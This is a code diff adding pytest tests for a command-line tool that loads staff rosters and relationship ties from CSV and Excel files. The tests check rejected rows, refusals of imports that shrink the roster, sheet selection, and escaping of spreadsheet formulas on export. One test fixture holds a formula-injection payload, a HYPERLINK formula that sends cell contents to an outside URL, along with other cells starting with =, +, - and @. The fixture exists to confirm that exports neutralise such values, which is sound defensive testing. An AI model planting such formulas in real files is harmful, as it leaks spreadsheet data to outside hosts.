@@ -181,3 +181,156 @@ def test_summary_and_console_script(org: Path, tmp_path: Path) -> None:
 def test_neither_store_given_is_a_clear_error(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["summary"]) == 2
     assert "exactly one of --workspace DIR or --store URI" in capsys.readouterr().err
+
+
+def test_exit_status_and_text_output_say_what_loaded(
+    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    workspace = str(tmp_path / "ws")
+    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
+    out = capsys.readouterr().out
+    assert "  staff.csv (staff): 120 in = 120 loaded + 0 rejected" in out
+    ties = tmp_path / "advice.csv"
+    ties.write_text("source,target\nE001,E002\nE001,GHOST\nE003\n")
+    status = main(["ingest", "--workspace", workspace, "--ties", str(ties), "--layer", "advice"])
+    assert status == 3  # saved, with rejected rows
+    out = capsys.readouterr().out
+    assert "  advice.csv (ties): 3 in = 1 loaded + 2 rejected" in out
+    assert "Errors (2):" in out
+    assert "  advice.csv row 3, column target: 'GHOST' is not a known person" in out
+    assert "  advice.csv row 4: has 1 field, expected 2 (source,target)" in out
+    with Workspace.open(workspace) as store:
+        assert store.load_graph().tie_counts()["advice"] == 1
+
+
+def test_a_ragged_roster_is_refused_in_plain_text_too(
+    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    workspace = str(tmp_path / "ws")
+    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
+    with Workspace.open(workspace) as store:
+        before = store.load_graph()
+    lines = (org / "staff.csv").read_text().splitlines()
+    ragged = [lines[0]] + [line if i % 20 == 0 else line + ",x" for i, line in enumerate(lines[1:])]
+    bad = tmp_path / "staff.csv"
+    bad.write_text("\n".join(ragged) + "\n")
+    capsys.readouterr()
+    status = main(["ingest", "--workspace", workspace, "--staff", str(bad)])
+    captured = capsys.readouterr()
+    assert status == 1
+    assert "Refused (nothing written); the import would have held: 6 people" in captured.out
+    assert "  staff.csv (staff): 120 in = 6 loaded + 114 rejected" in captured.out
+    assert "Refused: it would remove 114 of the 120 people stored (95%" in captured.out
+    assert "Refused: it would drop the whole mentoring layer" in captured.out
+    assert "staff.csv row 3: has" in captured.out  # the first problems, with file and row
+    assert "--allow-shrink" in captured.err
+    with Workspace.open(workspace) as store:
+        after = store.load_graph()
+        assert len(store.import_log()) == 1
+    assert after.n_people == before.n_people and after.tie_counts() == before.tie_counts()
+    status, report = run_json(
+        ["ingest", "--workspace", workspace, "--staff", str(bad), "--json"], capsys
+    )
+    assert status == 1 and report["refused"][0].startswith("it would remove 114 of the 120")
+    status = main(["ingest", "--workspace", workspace, "--staff", str(bad), "--allow-shrink"])
+    assert status == 3
+    with Workspace.open(workspace) as store:
+        assert store.load_graph().n_people == 6
+
+
+def test_validate_reports_a_refusal_and_max_shrink_is_a_flag(
+    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    workspace = str(tmp_path / "ws")
+    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
+    staff = pd.read_csv(org / "staff.csv", dtype=str, keep_default_na=False)
+    tied = set()
+    for name in ("pairs.csv", "sponsorships.csv"):
+        tied |= set(pd.read_csv(org / name, dtype=str).iloc[:, :2].to_numpy().ravel())
+    leavers = staff.loc[~staff["person_id"].isin(tied), "person_id"].iloc[:20]
+    smaller = tmp_path / "staff.csv"
+    staff.loc[~staff["person_id"].isin(leavers)].to_csv(smaller, index=False)  # 17% leave
+    capsys.readouterr()
+    assert main(["validate", "--workspace", workspace, "--staff", str(smaller)]) == 1
+    assert "Refused: it would remove 20 of the 120 people stored (17%" in capsys.readouterr().out
+    argv = ["ingest", "--workspace", workspace, "--staff", str(smaller), "--max-shrink", "0.2"]
+    assert main(argv) == 0
+
+
+def test_sheet_flag_reads_the_named_sheet(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "staff.xlsx"
+    with pd.ExcelWriter(path) as writer:
+        pd.DataFrame({"note": ["read me"]}).to_excel(writer, sheet_name="About", index=False)
+        pd.DataFrame({"person_id": ["a", "b"], "manager_id": [None, "a"]}).to_excel(
+            writer, sheet_name="Staff", index=False
+        )
+    workspace = str(tmp_path / "ws")
+    assert main(["ingest", "--workspace", workspace, "--staff", str(path), "--sheet", "Staff"]) == 0
+    assert main(["validate", "--staff", str(path), "--sheet", "2"]) == 0
+    capsys.readouterr()
+    assert main(["validate", "--staff", str(path), "--sheet", "People"]) == 1
+    out = capsys.readouterr().out
+    assert "staff.xlsx: the workbook has no sheet 'People' (it has 'About', 'Staff')" in out
+
+
+def test_problem_report_and_csv_export_cannot_run_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import csv
+
+    staff = tmp_path / "@staff.csv"
+    staff.write_text(
+        'person_id,name,=col\n-a,"=HYPERLINK(""http://x?x=""&A1,""Click me"")",+1\n'
+        "b,@Bo,x\nb,Again,y\n"
+    )
+    workspace = str(tmp_path / "ws")
+    problems = tmp_path / "problems.csv"
+    status = main(["ingest", "--workspace", workspace, "--staff", str(staff),
+                   "--report", str(problems)])  # fmt: skip
+    assert status == 3  # the repeated id is rejected
+    out = tmp_path / "csv"
+    assert main(["export", "--workspace", workspace, "--format", "csv", "--out", str(out)]) == 0
+    prefixes = ("=", "+", "-", "@", "\t", "\r")
+    for path in (problems, out / "people.csv", out / "ties.csv"):
+        with path.open(newline="", encoding="utf-8") as handle:
+            rows = list(csv.reader(handle))
+        assert len(rows) >= 2 or path.name == "ties.csv"
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c.startswith(prefixes)], path.name
+    with problems.open(newline="", encoding="utf-8") as handle:
+        assert next(row[:4] for row in csv.reader(handle) if row[0] == "error") == [
+            "error",
+            "'@staff.csv",
+            "4",
+            "person_id",
+        ]
+    people = pd.read_csv(out / "people.csv", dtype=str, keep_default_na=False)
+    assert people.set_index("person_id")["name"]["'-a"].startswith("'=HYPERLINK(")
+
+
+def test_recommend_csv_cannot_run_formulas(
+    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import csv
+    import re
+
+    hostile = tmp_path / "org"
+    hostile.mkdir()
+    for source in org.glob("*.csv"):  # every person id starts a formula: =E001, =E002, ...
+        text = re.sub(r"\bE(\d{3})\b", r"=E\1", source.read_text())
+        (hostile / source.name).write_text(text)
+    workspace = str(tmp_path / "ws")
+    assert main(["ingest", "--workspace", workspace, *sources(hostile)]) == 0
+    out = tmp_path / "run.csv"
+    argv = ["recommend", "--workspace", workspace, "--kind", "pairs", "--count", "5",
+            "--json", str(tmp_path / "run.json"), "--csv", str(out)]  # fmt: skip
+    assert main(argv) == 0
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) > 1
+    cells = [cell for row in rows for cell in row]
+    assert any(cell.startswith("'=E") for cell in cells)
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", c)]
